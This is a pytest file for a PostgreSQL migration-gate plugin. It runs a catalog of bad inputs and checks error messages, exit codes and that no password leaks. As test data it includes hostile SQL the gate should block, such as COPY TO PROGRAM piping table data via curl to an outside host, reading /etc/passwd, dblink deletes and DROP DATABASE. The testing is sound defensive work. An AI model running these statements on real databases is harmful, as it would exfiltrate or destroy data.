# ruff: noqa: E501
# The catalog is a table: one row per line, however long, so it reads as one.
"""The bad-input catalog: one row per thing a user can get wrong, each held to the same promise.

Every row runs the gate on a small project with one thing wrong and checks the exit status, that
the output says what is wrong (the row's fragments) and what to do, that there is no traceback,
that no password shows in any spelling in the output, the JUnit XML or any file the run wrote,
and that nothing was applied: the databases the run must not change are fingerprinted before and
after. Rows that need no server run first and fast; the rest share the session's servers.
"""

from __future__ import annotations

import codecs
import dataclasses
import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import pytest
from psycopg import sql

from pytest_dbgate.pg.connections import Endpoint, connection
from tests.conftest import QUIET_PLUGINS, STAGING_PASSWORD, url
from tests.secretscan import leaks, mtimes, written_since

USAGE, FAILED = 4, 1
MIGRATION = "migrations/20250101000000_add_note.sql"
SECOND = "migrations/20250101000100_index_note.sql"
HELD = "migrations/20250101000200_drop_old.sql"
# A password with every character a URL, libpq, JSON or XML would spell differently.
EVIL = "EvilPw@x/y%z:q'\"\\ <&> é"
CLOSED = "postgresql://app@127.0.0.1:9/prod"  # port 9 (discard): nothing listens

Files = Mapping[str, str | bytes | None]  # None: a folder


@dataclass(frozen=True)
class Case:
    id: str
    kind: str  # the class the README lists it under
    exit: int
    says: tuple[str, ...]  # what must be in the output: what is wrong
    files: Files = field(default_factory=dict)
    ini: Mapping[str, str] = field(default_factory=dict)
    args: tuple[str, ...] = ()
    mode: str = "staging"
    env: Mapping[str, str] = field(default_factory=dict)
    remedy: bool = True  # False: the failure is the project's own test, worded by its authors


def case(id: str, kind: str, exit: int, *says: str, **rest: object) -> Case:
    return Case(id, kind, exit, says, **rest)  # type: ignore[arg-type]


BASE: dict[str, str | bytes | None] = {
    "seed.sql": "CREATE TABLE t (id int PRIMARY KEY, old text);\n",
    MIGRATION: "ALTER TABLE t ADD COLUMN note text;\n",
}
HOLD = {HELD: "-- dbgate: hold-back 7d\nALTER TABLE t DROP COLUMN old;\n"}
LATIN1 = "-- café\nALTER TABLE t ADD COLUMN note text;\n".encode("latin-1")
UTF16 = codecs.BOM_UTF16_LE + "ALTER TABLE t ADD COLUMN note text;\n".encode("utf-16-le")
BINARY = bytes(range(256)) * 4
DUMPALL = (
    "--\n-- PostgreSQL database cluster dump\n--\n\nSET default_transaction_read_only = off;\n"
)


def workload(text: str | bytes) -> dict[str, str | bytes | None]:
    return {"workload.sql": text}


def migration(text: str | bytes, name: str = MIGRATION) -> dict[str, str | bytes | None]:
    return {name: text}


def outside(statement: str) -> Case:
    """A statement acting outside the migrated database, let through by an ignore: lint fails."""
    rule = "outside-database"
    return case(
        f"outside: {statement.split('(')[0][:40]}",
        "outside the database",
        FAILED,
        "acts outside the migrated database",
        files=migration(f"-- dbgate: ignore {rule} we know\n{statement};\n"),
        mode="lint",
    )


# fmt: off
NO_SERVER: list[Case] = [
    # -- usage: the command line and the ini ---------------------------------------------------
    case("mode unknown", "usage", USAGE, "invalid choice", args=("--dbgate=stagign",)),
    case("layout unknown", "usage", USAGE, "--dbgate-layout", "rails", args=("--dbgate-layout=rails",)),
    case("lock timeout huge", "usage", USAGE, "--dbgate-lock-timeout", args=("--dbgate-lock-timeout=3000000000",)),
    case("lock timeout inf", "usage", USAGE, "--dbgate-lock-timeout", args=("--dbgate-lock-timeout=inf",)),
    case("lock timeout nan", "usage", USAGE, "--dbgate-lock-timeout", args=("--dbgate-lock-timeout=nan",)),
    case("lock timeout negative", "usage", USAGE, "--dbgate-lock-timeout", args=("--dbgate-lock-timeout=-5",)),
    case("lock retries words", "usage", USAGE, "--dbgate-lock-retries", args=("--dbgate-lock-retries=many",)),
    case("lock retries fraction", "usage", USAGE, "--dbgate-lock-retries", args=("--dbgate-lock-retries=1.5",)),
    case("lock retry wait", "usage", USAGE, "--dbgate-lock-retry-wait", args=("--dbgate-lock-retry-wait=3600",)),
    case("max regression words", "usage", USAGE, "--dbgate-max-regression", args=("--dbgate-max-regression=lots",)),
    case("max regression negative", "usage", USAGE, "--dbgate-max-regression", args=("--dbgate-max-regression=-0.2",)),
    case("max regression percent", "usage", USAGE, "--dbgate-max-regression", args=("--dbgate-max-regression=20%",)),
    case("perf floor", "usage", USAGE, "--dbgate-perf-floor-ms", args=("--dbgate-perf-floor-ms=-1",)),
    case("perf budget zero", "usage", USAGE, "--dbgate-perf-budget", args=("--dbgate-perf-budget=0",)),
    case("workload runs zero", "usage", USAGE, "--dbgate-workload-runs", args=("--dbgate-workload-runs=0",)),
    case("workload runs huge", "usage", USAGE, "--dbgate-workload-runs", args=("--dbgate-workload-runs=20000",)),
    case("max lock ms", "usage", USAGE, "--dbgate-max-lock-ms", args=("--dbgate-max-lock-ms=soon",)),
    case("max block ms", "usage", USAGE, "--dbgate-max-block-ms", args=("--dbgate-max-block-ms=-3",)),
    case("traffic rate", "usage", USAGE, "--dbgate-traffic-rate", args=("--dbgate-traffic-rate=1e9",)),
    case("pool size", "usage", USAGE, "--dbgate-pool-size", args=("--dbgate-pool-size=-3",)),
    case("pool size in ini", "usage", USAGE, "--dbgate-pool-size", ini={"dbgate_pool_size": "lots"}),
    case("small table rows", "usage", USAGE, "--dbgate-lint-small-table-rows", args=("--dbgate-lint-small-table-rows=0.5",)),
    case("migration timeout zero", "usage", USAGE, "--dbgate-migration-timeout", args=("--dbgate-migration-timeout=0",)),
    case("migration timeout words", "usage", USAGE, "--dbgate-migration-timeout", args=("--dbgate-migration-timeout=long",)),
    case("record max age", "usage", USAGE, "--dbgate-record-max-age", "3 days", args=("--dbgate-record-max-age=3 days",)),
    case("record max age zero", "usage", USAGE, "--dbgate-record-max-age", args=("--dbgate-record-max-age=0h",)),
    case("snapshot max age", "usage", USAGE, "--dbgate-snapshot-max-age", args=("--dbgate-snapshot-max-age=forever",)),
    case("holdbacks malformed", "usage", USAGE, "invalid value '1_a'", args=("--dbgate-holdbacks=1_a",)),
    case("holdbacks unknown migration", "usage", USAGE, "names '9'", args=("--dbgate-holdbacks=9=7d",)),
    case("holdbacks period", "usage", USAGE, "--dbgate-holdbacks", args=("--dbgate-holdbacks=20250101000000=soon",)),
    case("release early outside production", "usage", USAGE, "--dbgate-release-early", args=("--dbgate-release-early=20250101000000",)),
    case("release early in addopts", "usage", USAGE, "addopts", mode="production", files=HOLD, ini={"addopts": "--dbgate-release-early=20250101000200"}, env={"PROD_DATABASE_URL": CLOSED}),
    case("pg bindir missing", "usage", USAGE, "/nonexistent/bin", args=("--dbgate-pg-bindir=/nonexistent/bin",)),
    # -- usage: URLs and where things are ------------------------------------------------------
    case("source port not a number", "URL", USAGE, "$PROD_DATABASE_URL", "port", env={"PROD_DATABASE_URL": "postgresql://app@db:abc/prod"}),
    case("source port out of range", "URL", USAGE, "$PROD_DATABASE_URL", "port", env={"PROD_DATABASE_URL": "postgresql://app@db:70000/prod"}),
    case("source URL not a URL", "URL", USAGE, "$PROD_DATABASE_URL", env={"PROD_DATABASE_URL": "not a url"}),
    case("source URL other scheme", "URL", USAGE, "$PROD_DATABASE_URL", env={"PROD_DATABASE_URL": "mysql://app@db/prod"}),
    case("source URL bad option", "connection", FAILED, "cannot connect to the source database", env={"PROD_DATABASE_URL": "postgresql://app@db/prod?sslmode=sometimes"}),
    case("staging port not a number", "URL", USAGE, "$STAGING_DATABASE_URL", "port", env={"STAGING_DATABASE_URL": "postgresql://app@db:x1/staging"}),
    case("URL port and password", "URL", USAGE, "port", env={"PROD_DATABASE_URL": f"postgresql://app:{quote(EVIL, safe='')}@db:abc/prod"}),
    case("URL broken with password", "connection", FAILED, "cannot connect to the source database", env={"PROD_DATABASE_URL": f"postgresql://app:{quote(EVIL, safe='')}@db/prod?sslmode=x"}),
    case("password in ini", "URL", USAGE, "contains a password", ini={"dbgate_source_url": "postgresql://app:hunter2@db/prod"}),
    case("encoded password in ini", "URL", USAGE, "contains a password", ini={"dbgate_staging_url": f"postgresql://app:{quote(EVIL, safe='')}@db/staging"}),
    case("staging is source", "URL", USAGE, "same as the source", env={"PROD_DATABASE_URL": "postgresql://app@db/prod", "STAGING_DATABASE_URL": "postgresql://app@db/prod"}),
    case("no source", "usage", USAGE, "no source database", ini={"dbgate_seed": ""}),
    case("seed missing", "input file", USAGE, "the seed path", ini={"dbgate_seed": "missing.sql"}),
    case("seed latin-1", "input file", USAGE, "seed file", "line 1 is not UTF-8", files={"seed.sql": LATIN1}),
    case("seed NUL", "input file", USAGE, "seed file", "NUL byte", files={"seed.sql": "CREATE TABLE t (id int);\0DROP TABLE x;"}),
    case("seed binary", "input file", USAGE, "seed file", "not UTF-8", files={"seed.sql": BINARY}),
    case("clone and staging", "usage", USAGE, "both a clone command and a staging URL", ini={"dbgate_clone_command": "./clone"}, env={"STAGING_DATABASE_URL": "postgresql://app@staging/db"}),
    case("clone and snapshot", "usage", USAGE, "both a clone command and a dump file", ini={"dbgate_clone_command": "./clone", "dbgate_snapshot": "prod.dump"}, files={"prod.dump": BINARY}),
    case("snapshot missing", "dump file", USAGE, "prod.dump", ini={"dbgate_snapshot": "prod.dump", "dbgate_seed": ""}),
    case("snapshot not a dump", "dump file", USAGE, "prod.dump", ini={"dbgate_snapshot": "prod.dump", "dbgate_seed": ""}, files={"prod.dump": "hello, world\n"}),
    case("snapshot empty", "dump file", USAGE, "prod.dump", ini={"dbgate_snapshot": "prod.dump", "dbgate_seed": ""}, files={"prod.dump": ""}),
    case("snapshot binary", "dump file", USAGE, "prod.dump", ini={"dbgate_snapshot": "prod.dump", "dbgate_seed": ""}, files={"prod.dump": BINARY}),
    case("snapshot truncated", "dump file", USAGE, "prod.dump", ini={"dbgate_snapshot": "prod.dump", "dbgate_seed": ""}, files={"prod.dump": b"PGDMP\x01\x0e\x00\x04\x08\x01\x01"}),
    case("snapshot cluster dump", "dump file", USAGE, "pg_dumpall", ini={"dbgate_snapshot": "prod.sql", "dbgate_seed": ""}, files={"prod.sql": DUMPALL}),
    case("snapshot folder", "dump file", USAGE, "dumpdir", ini={"dbgate_snapshot": "dumpdir", "dbgate_seed": ""}, files={"dumpdir": None}),
    case("report dir is a file", "output", USAGE, "report", "is a file", ini={"dbgate_report_dir": "seed.sql"}),
    case("report dir under a file", "output", USAGE, "report", ini={"dbgate_report_dir": "seed.sql/reports"}),
    case("record is a folder", "output", USAGE, "gate record", ini={"dbgate_record": "somewhere"}, files={"somewhere": None}),
    case("record under a file", "output", USAGE, "gate record", ini={"dbgate_record": "seed.sql/record.json"}),
    # -- input files: migrations ---------------------------------------------------------------
    case("migrations missing", "migration", USAGE, "does not exist", ini={"dbgate_migrations": "nowhere"}),
    case("migrations is a file", "migration", USAGE, "seed.sql", ini={"dbgate_migrations": "seed.sql"}),
    case("migrations empty", "migration", USAGE, "holds no migration files", files={"empty": None, "empty/readme.txt": "x"}, ini={"dbgate_migrations": "empty"}),
    case("misnamed migration", "migration", USAGE, "add_column.sql", files=migration("SELECT 1;", "migrations/add_column.sql")),
    case("duplicate version", "migration", USAGE, "used by more than one file", files=migration("SELECT 1;", "migrations/20250101000000_other.sql")),
    case("syntax error", "migration", USAGE, ":2: the migration does not parse", files=migration("ALTER TABLE t ADD COLUMN note text;\nALTER TABLE t ADD COLUM x int;\n")),
    case("unterminated quote", "migration", USAGE, "does not parse", files=migration("INSERT INTO t VALUES (1, 'x);\n")),
    case("unterminated dollar quote", "migration", USAGE, "does not parse", files=migration("DO $$ BEGIN NULL; END;\n")),
    case("empty migration", "migration", USAGE, "holds no SQL statement", files=migration("-- nothing yet\n")),
    case("zero-byte migration", "migration", USAGE, "holds no SQL statement", files=migration("")),
    case("unknown directive", "migration", USAGE, "unknown or malformed dbgate directive", files=migration("-- dbgate: frobnicate\nSELECT 1;\n")),
    case("hold-back without period", "migration", USAGE, "dbgate directive", files=migration("-- dbgate: hold-back soon\nSELECT 1;\n")),
    case("directive in block comment", "migration", USAGE, "dbgate", files=migration("/* dbgate: hold-back 7d */\nSELECT 1;\n")),
    case("ignore unknown rule", "migration", USAGE, "no-such-rule", files=migration("-- dbgate: ignore no-such-rule because\nSELECT 1;\n")),
    case("ignore without reason", "migration", USAGE, "ignore", files=migration("-- dbgate: ignore add-column-default\nSELECT 1;\n")),
    case("migration latin-1", "migration", USAGE, "line 1 is not UTF-8", files=migration(LATIN1)),
    case("migration UTF-16", "migration", USAGE, "UTF-16", files=migration(UTF16)),
    case("migration binary", "migration", USAGE, "not UTF-8", files=migration(BINARY)),
    case("migration NUL", "migration", USAGE, "NUL byte", files=migration("SELECT 1;\0DROP TABLE t;\n")),
    case("migration is a folder", "migration", USAGE, "20250101000100_x.sql", files={"migrations/20250101000100_x.sql": None}),
    case("second migration latin-1", "migration", USAGE, "20250101000100", files=migration(LATIN1, SECOND)),
    case("mixed layouts", "migration", USAGE, "mixes layouts", files=migration("SELECT 1;", "migrations/V2__add.sql")),
    case("prisma folder without sql", "migration", USAGE, "20250101000100_x", files={"migrations/20250101000000_add_note": None, "migrations/20250101000000_add_note/migration.sql": "SELECT 1;", "migrations/20250101000100_x": None, "migrations/20250101000100_x/notes.txt": "x"}, ini={"dbgate_layout": "prisma"}),
    case("dbmate without up", "migration", USAGE, "dbmate", files=migration("-- migrate:down\nDROP TABLE t;\n"), ini={"dbgate_layout": "dbmate"}),
    case("lint latin-1", "migration", USAGE, "not UTF-8", files=migration(LATIN1), mode="lint"),
    case("lint NUL", "migration", USAGE, "NUL byte", files=migration("SELECT 1;\0DROP TABLE t;\n"), mode="lint"),
    # -- input files: workload -----------------------------------------------------------------
    case("workload missing", "workload", USAGE, "workload file", ini={"dbgate_workload": "nope.sql"}),
    case("workload latin-1", "workload", USAGE, "workload file", "not UTF-8", files=workload(LATIN1), ini={"dbgate_workload": "workload.sql"}),
    case("workload UTF-16", "workload", USAGE, "workload file", "UTF-16", files=workload(UTF16), ini={"dbgate_workload": "workload.sql"}),
    case("workload NUL", "workload", USAGE, "NUL byte", files=workload("SELECT 1;\0SELECT 2;"), ini={"dbgate_workload": "workload.sql"}),
    case("workload syntax", "workload", USAGE, "workload.sql:1", files=workload("SELEC * FROM t;\n"), ini={"dbgate_workload": "workload.sql"}),
    case("workload DDL", "workload", USAGE, "only data queries", files=workload("DROP TABLE t;\n"), ini={"dbgate_workload": "workload.sql"}),
    case("workload empty", "workload", USAGE, "holds no query", files=workload("-- later\n"), ini={"dbgate_workload": "workload.sql"}),
    case("workload duplicate names", "workload", USAGE, "used twice", files=workload("-- name: a\nSELECT 1;\n-- name: a\nSELECT 2;\n"), ini={"dbgate_workload": "workload.sql"}),
    case("workload is a folder", "workload", USAGE, "workload", files={"wl": None}, ini={"dbgate_workload": "wl"}),
    # -- production usage ----------------------------------------------------------------------
    case("production without URL", "production", USAGE, "no database to deploy to", mode="production"),
    case("production port", "production", USAGE, "port", mode="production", env={"PROD_DATABASE_URL": "postgresql://app@db:port/prod"}),
    case("production setup-only", "production", USAGE, "--setup-only", mode="production", args=("--setup-only",), env={"PROD_DATABASE_URL": CLOSED}),
    case("production partial", "production", USAGE, "leaves out", mode="production", args=("-k", "add_note"), env={"PROD_DATABASE_URL": CLOSED}),
    case("production command mode", "production", USAGE, "command", mode="production", ini={"dbgate_migrate_command": "alembic upgrade head"}, env={"PROD_DATABASE_URL": CLOSED}),
    case("production release early unknown", "production", USAGE, "20250101000000", mode="production", args=("--dbgate-release-early=20250101000000",), env={"PROD_DATABASE_URL": CLOSED}),
    case("production hold-back shortened", "production", USAGE, "hold-back", mode="production", files=HOLD, args=("--dbgate-holdbacks=20250101000200=1h",), env={"PROD_DATABASE_URL": CLOSED}),
    # -- outside the migrated database: lint fails, whatever the ignore says --------------------
    outside("DROP DATABASE IF EXISTS other"),
    outside("CREATE DATABASE other"),
    outside("ALTER DATABASE other SET work_mem = '1GB'"),
    outside("ALTER SYSTEM SET work_mem = '1GB'"),
    outside("SELECT dblink_exec('host=db dbname=prod', 'DROP TABLE t')"),
    outside("DO $$ BEGIN PERFORM dblink_exec('dbname=prod', 'DELETE FROM t'); END $$"),
    outside("COPY t TO PROGRAM 'curl -d @- http://example.com'"),
    outside("COPY t FROM PROGRAM 'cat /etc/passwd'"),
    outside("COPY t TO '/tmp/t.csv'"),
    outside("CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db')"),
    outside("SELECT pg_terminate_backend(pid) FROM pg_stat_activity"),
    outside("SELECT pg_reload_conf()"),
]
# fmt: on


def build(path: Path, files: Files) -> None:
    for name, content in files.items():
        target = path / name
        if content is None:
            if target.is_file():
                target.unlink()
            target.mkdir(parents=True, exist_ok=True)
            continue
        target.parent.mkdir(parents=True, exist_ok=True)
        if target.is_dir():
            target.rmdir()
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content)


@dataclass
class Ran:
    result: pytest.RunResult
    output: str
    written: list[Path]


def run_case(
    pytester: pytest.Pytester,
    monkeypatch: pytest.MonkeyPatch,
    case: Case,
    base_ini: Mapping[str, str],
    base_files: Files = BASE,
) -> Ran:
    for name in ("PROD_DATABASE_URL", "STAGING_DATABASE_URL", "GITHUB_STEP_SUMMARY", "PGOPTIONS"):
        monkeypatch.delenv(name, raising=False)
    for name, value in case.env.items():
        monkeypatch.setenv(name, value)
    build(pytester.path, {**base_files, **case.files})
    settings = {**base_ini, **case.ini}
    pytester.makeini("[pytest]\n" + "".join(f"{k} = {v}\n" for k, v in settings.items()))
    before = mtimes(pytester.path)
    mode = () if any(a.startswith("--dbgate=") for a in case.args) else (f"--dbgate={case.mode}",)
    result = pytester.runpytest(*mode, *QUIET_PLUGINS, "--junitxml=junit.xml", *case.args)
    output = result.stdout.str() + "\n" + result.stderr.str()
    return Ran(result, output, written_since(pytester.path, before))


def check(case: Case, ran: Ran, passwords: list[str]) -> None:
    """The promise, for one row."""
    output = ran.output
    assert "Traceback" not in output and "INTERNALERROR" not in output, output
    assert ran.result.ret == case.exit, output
    for fragment in case.says:
        assert fragment in output, (fragment, output)
    # What to do: the remedy of a usage error or a failed item, a lint finding's fix, or the
    # choices argparse lists.
    if case.remedy:
        assert any(r in output for r in ("what to do", "    fix: ", "invalid choice")), output
    found = leaks(passwords, [output], ran.written)
    assert not found, found


PASSWORDS = [EVIL, "hunter2", STAGING_PASSWORD]


@pytest.mark.parametrize("case", NO_SERVER, ids=[c.id for c in NO_SERVER])
def test_without_a_server(
    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, case: Case
) -> None:
    ran = run_case(pytester, monkeypatch, case, {"dbgate_seed": "seed.sql"})
    check(case, ran, PASSWORDS)
    assert not (pytester.path / ".dbgate" / "gate-record.json").exists()


# -- rows that need servers ------------------------------------------------------------------------

SOURCE_SEED = """
CREATE TABLE t (id int PRIMARY KEY, old text);
INSERT INTO t SELECT g, 'row ' || g FROM generate_series(1, 2000) AS g;
CREATE TABLE "My Table" ("Id" int PRIMARY KEY, "it's" text);
INSERT INTO "My Table" SELECT g, 'x' FROM generate_series(1, 100) AS g;
"""
VICTIM = "catalog_victim"  # a database on the staging server a migration tries to drop


@dataclass(frozen=True)
class Servers:
    source: Endpoint  # the production database: no row may change it
    staging: Endpoint  # the staging server, password protected
    evil: Endpoint  # the staging server again, as a role whose password is EVIL


@pytest.fixture(scope="module")
def servers(source_server: Endpoint, staging_server: Endpoint) -> Iterator[Servers]:
    drop = sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)")
    with connection(source_server, "test", "test") as conn:
        conn.execute(drop.format(sql.Identifier("catalog_src")))
        conn.execute("CREATE DATABASE catalog_src")
    source = source_server.with_dbname("catalog_src")
    with connection(source, "test", "test") as conn:
        conn.execute(SOURCE_SEED)
    with connection(staging_server, "test", "test") as conn:
        conn.execute(drop.format(sql.Identifier(VICTIM)))
        conn.execute(sql.SQL("CREATE DATABASE {}").format(sql.Identifier(VICTIM)))
        conn.execute("DROP ROLE IF EXISTS evil")
        conn.execute(
            sql.SQL("CREATE ROLE evil LOGIN SUPERUSER PASSWORD {}").format(sql.Literal(EVIL))
        )
    yield Servers(source, staging_server, staging_server.replace(user="evil", password=EVIL))
    with connection(source_server, "test", "test") as conn:
        conn.execute(drop.format(sql.Identifier("catalog_src")))
    with connection(staging_server, "test", "test") as conn:
        conn.execute(drop.format(sql.Identifier(VICTIM)))


def fingerprint(server: Endpoint, database: Endpoint) -> tuple[object, ...]:
    """What a run must not change: the server's databases, and every relation of the database
    with its row count and the sum of its rows' text."""
    with connection(server, "test", "test") as conn:
        databases = conn.execute("SELECT datname FROM pg_database ORDER BY 1").fetchall()
    with connection(database, "test", "test") as conn:
        tables = conn.execute(
            "SELECT n.nspname, c.relname FROM pg_class c JOIN pg_namespace n "
            "ON n.oid = c.relnamespace WHERE c.relkind = 'r' AND n.nspname NOT IN "
            "('pg_catalog', 'information_schema') ORDER BY 1, 2"
        ).fetchall()
        rows = [
            conn.execute(
                sql.SQL(
                    "SELECT count(*), md5(coalesce(string_agg(x::text, '' ORDER BY x::text), '')) FROM {} x"
                ).format(sql.Identifier(str(schema), str(name)))
            ).fetchone()
            for schema, name in tables
        ]
    return tuple(databases), tuple(tables), tuple(rows)


def evil_url(endpoint: Endpoint) -> str:
    """A URL as a CI secret holds it: the password percent-encoded."""
    return (
        f"postgresql://{endpoint.user}:{quote(EVIL, safe='')}@{endpoint.host}:{endpoint.port}/"
        f"{endpoint.dbname}"
    )


ECHO_TESTS = """
import os

def test_prints_the_url(dbgate_url):
    print("url:", dbgate_url, "env:", os.environ.get("DATABASE_URL"))
    import psycopg.conninfo
    print("conninfo:", psycopg.conninfo.make_conninfo(dbgate_url))
    password = psycopg.conninfo.conninfo_to_dict(dbgate_url)["password"]
    import html, json
    print("spelt:", repr(password), json.dumps(password), html.escape(password))
    assert dbgate_url == "this fails, showing the URL"
"""

RECORD_OK_KEYS = '{"kind": "pytest-dbgate gate record", "format": 2, "passed": true'


def record(text: str | bytes) -> dict[str, str | bytes | None]:
    return {".dbgate/gate-record.json": text}


# fmt: off
WITH_SERVERS: list[Case] = [
    # -- connections -----------------------------------------------------------------------------
    case("source refuses connections", "connection", FAILED, "cannot connect to the source database", env={"PROD_DATABASE_URL": CLOSED}),
    case("staging wrong password", "connection", FAILED, "password", "$STAGING_DATABASE_URL", env={"STAGING_DATABASE_URL": "{staging_wrong}"}),
    case("staging unknown database", "connection", FAILED, "staging", env={"STAGING_DATABASE_URL": "{staging_nodb}"}),
    # -- secrets -------------------------------------------------------------------------------
    case("key=value URL with password, echoed", "secret", FAILED, "exited with status 3", ini={"dbgate_test_command": "echo \"$STAGING_DATABASE_URL\"; echo \"$DATABASE_URL\"; exit 3"}, env={"STAGING_DATABASE_URL": "{evil_kv}"}, remedy=False),
    case("PGPASSWORD echoed", "secret", FAILED, "exited with status 3", ini={"dbgate_test_command": "echo \"pw=$PGPASSWORD\"; exit 3"}, env={"STAGING_DATABASE_URL": "{evil_nopw}", "PGPASSWORD": EVIL}, remedy=False),
    case("password with URL-special characters, echoed", "secret", FAILED, "this fails", files={"tests/test_echo.py": ECHO_TESTS}, ini={"dbgate_test_command": "echo \"$DATABASE_URL\"; echo \"$PROD_DATABASE_URL\"; exit 3"}, env={"STAGING_DATABASE_URL": "{evil}"}, remedy=False),
    # -- faults while running ------------------------------------------------------------------
    case("migration sleeps past the timeout", "runaway", FAILED, "migration timeout (2 s)", "statement 2", files=migration("ALTER TABLE t ADD COLUMN note text;\nSELECT pg_sleep(600);\n"), args=("--dbgate-migration-timeout=2",)),
    case("endless loop", "runaway", FAILED, "migration timeout (2 s)", files=migration("DO $$ BEGIN LOOP PERFORM 1; END LOOP; END $$;\n"), args=("--dbgate-migration-timeout=2",)),
    case("file resets its own statement_timeout", "runaway", FAILED, "migration timeout (2 s)", files=migration("SET statement_timeout = 0;\nSELECT pg_sleep(600);\n"), args=("--dbgate-migration-timeout=2",)),
    case("many slow statements", "runaway", FAILED, "migration timeout (2 s)", files=migration("-- dbgate: no-transaction\n" + "SELECT pg_sleep(0.5);\n" * 12), args=("--dbgate-migration-timeout=2",)),
    case("workload query with a bad column", "workload", FAILED, "no_such_column", "query[bad]", files=workload("-- name: bad\nSELECT no_such_column FROM t;\n"), ini={"dbgate_workload": "workload.sql"}),
    case("drop another database in staging", "outside the database", FAILED, "not applied", "acts outside the migrated database", files=migration(f"-- dbgate: ignore outside-database we know\nDROP DATABASE IF EXISTS {VICTIM};\n")),
    case("dblink write to the source", "outside the database", FAILED, "not applied", "dblink", files=migration("CREATE EXTENSION IF NOT EXISTS dblink;\nSELECT dblink_exec('{source_conninfo}', 'DELETE FROM t');\n")),
    # -- the gate record production reads ------------------------------------------------------
    case("record missing", "record", FAILED, "there is no gate record", mode="production"),
    case("record is a folder", "record", FAILED, "is a folder", mode="production", files={".dbgate/gate-record.json": None}),
    case("record JSON list", "record", FAILED, "not a pytest-dbgate gate record", mode="production", files=record("[1, 2, 3]")),
    case("record not JSON", "record", FAILED, "not JSON", mode="production", files=record("{oops")),
    case("record binary", "record", FAILED, "not UTF-8", mode="production", files=record(BINARY)),
    case("record empty", "record", FAILED, "not JSON", mode="production", files=record("")),
    case("record of another kind", "record", FAILED, "not a pytest-dbgate gate record", mode="production", files=record('{"kind": "something else"}')),
    case("record old format", "record", FAILED, "format 1", mode="production", files=record('{"kind": "pytest-dbgate gate record", "format": 1}')),
    case("record not passing", "record", FAILED, "passing staging run", mode="production", files=record(RECORD_OK_KEYS.replace("true", "false") + "}")),
    case("record unknown keys", "record", FAILED, "unknown keys: surprise", mode="production", files=record(RECORD_OK_KEYS + ', "surprise": 1}')),
    case("record wrong type", "record", FAILED, "migrations", mode="production", files=record("{wrong_type}")),
    case("record missing keys", "record", FAILED, "lacks", mode="production", files=record(RECORD_OK_KEYS + "}")),
]
# fmt: on


def wrong_type_record() -> str:
    server = {
        "where": "app@db:5432/prod",
        "database": "prod",
        "server_version": "15.0",
        "version_num": 150000,
        "system_identifier": None,
        "embedded": False,
    }
    document = {
        "kind": "pytest-dbgate gate record",
        "format": 2,
        "passed": True,
        "created_at": "2026-11-30T00:00:00+00:00",
        "plugin_version": "0.1.0",
        "source": server,
        "staging": server,
        "migrations": "all of them",
        "figures": {},
    }
    return json.dumps(document)


def resolve(case: Case, servers: Servers) -> Case:
    """Fill in what only the session's servers know: their URLs and addresses."""
    source = servers.source
    values = {
        "{staging_wrong}": url(servers.staging.replace(password="not-" + STAGING_PASSWORD)),
        "{staging_nodb}": url(servers.staging.with_dbname("no_such_database")),
        "{evil}": evil_url(servers.evil),
        "{evil_kv}": servers.evil.conninfo(),
        "{evil_nopw}": url(servers.evil.replace(password="")),
        "{source_conninfo}": f"host={source.host} port={source.port} dbname={source.dbname}",
        "{wrong_type}": wrong_type_record(),
    }

    def fill(text: str) -> str:
        for key, value in values.items():
            text = text.replace(key, value)
        return text

    files = {k: fill(v) if isinstance(v, str) else v for k, v in case.files.items()}
    env = {k: fill(v) for k, v in case.env.items()}
    return dataclasses.replace(case, files=files, env=env)


@pytest.mark.parametrize("case", WITH_SERVERS, ids=[c.id for c in WITH_SERVERS])
def test_with_servers(
    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, servers: Servers, case: Case
) -> None:
    case = resolve(case, servers)
    urls = {"PROD_DATABASE_URL": url(servers.source), "STAGING_DATABASE_URL": url(servers.staging)}
    case = dataclasses.replace(case, env={**urls, **case.env})
    source_server = servers.source.with_dbname("postgres")
    before = fingerprint(source_server, servers.source)
    ran = run_case(pytester, monkeypatch, case, {}, {MIGRATION: BASE[MIGRATION]})
    check(case, ran, PASSWORDS)
    assert fingerprint(source_server, servers.source) == before, "the source was changed"
    with connection(servers.staging, "test", "test") as conn:
        left = conn.execute("SELECT 1 FROM pg_database WHERE datname = %s", (VICTIM,)).fetchone()
    assert left is not None, f"{VICTIM} was dropped from the staging server"
    if case.mode == "staging":
        assert not (pytester.path / ".dbgate" / "gate-record.json").exists()


def test_names_with_spaces_and_quotes_pass(
    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, servers: Servers
) -> None:
    """Not bad input at all: a release on tables whose names need quoting passes, and its
    password (percent-encoded in the URL) shows nowhere."""
    files = migration(
        'ALTER TABLE "My Table" ADD COLUMN "Note ""quoted""" text;\n'
        'CREATE INDEX "My Index" ON "My Table" ("it\'s");\n'
    )
    env = {"PROD_DATABASE_URL": url(servers.source), "STAGING_DATABASE_URL": evil_url(servers.evil)}
    passing = case("quoted names", "none", 0, "PASSED", files=files, env=env)
    ran = run_case(pytester, monkeypatch, passing, {"dbgate_lint_small_table_rows": "1000"}, {})
    assert "Traceback" not in ran.output and ran.result.ret == 0, ran.output
    assert not leaks(PASSWORDS, [ran.output], ran.written)


def test_a_release_within_the_migration_timeout_passes(
    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, servers: Servers
) -> None:
    """The other side of the runaway rows: statements that take their time, together well
    within the timeout, on a table whose name needs quoting, pass."""
    files = migration(
        "-- dbgate: no-transaction\n"
        'ALTER TABLE "My Table" ADD COLUMN IF NOT EXISTS "Note" text;\n'
        "SELECT pg_sleep(0.4);\n"
        "SELECT pg_sleep(0.4);\n"
    )
    env = {"PROD_DATABASE_URL": url(servers.source), "STAGING_DATABASE_URL": url(servers.staging)}
    within = case(
        "within the timeout",
        "none",
        0,
        "PASSED",
        files=files,
        env=env,
        args=("--dbgate-migration-timeout=5",),
    )
    ran = run_case(pytester, monkeypatch, within, {"dbgate_lint_small_table_rows": "1000"}, {})
    assert ran.result.ret == 0, ran.output
    assert "migration timeout" not in ran.output
